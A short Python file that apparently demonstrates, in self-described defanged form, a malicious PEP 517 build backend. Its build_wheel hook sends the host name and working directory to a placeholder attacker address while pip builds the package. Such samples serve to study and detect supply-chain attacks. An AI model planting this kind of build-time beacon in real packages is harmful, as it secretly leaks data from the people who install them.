"""A PEP 517 backend that beacons home while pip builds the package (defanged)."""
import os
import socket
import urllib.request


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    info = socket.gethostname() + ':' + os.getcwd()
    urllib.request.urlopen('https://collect.attacker.example/b?h=' + info)
    return 'defanged-0.1.0-py3-none-any.whl'


def build_sdist(sdist_directory, config_settings=None):
    return 'defanged-0.1.0.tar.gz'
